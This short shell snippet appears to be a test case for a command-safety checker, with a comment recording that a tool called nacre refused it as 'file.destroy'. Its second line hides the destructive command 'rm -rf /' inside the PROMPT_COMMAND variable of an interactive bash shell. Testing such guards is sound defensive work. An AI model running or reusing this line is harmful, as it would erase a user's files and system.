# nacre: refused file.destroy
PROMPT_COMMAND='rm -rf /' bash -i
if [ -e done ]; then
	echo "done"
fi
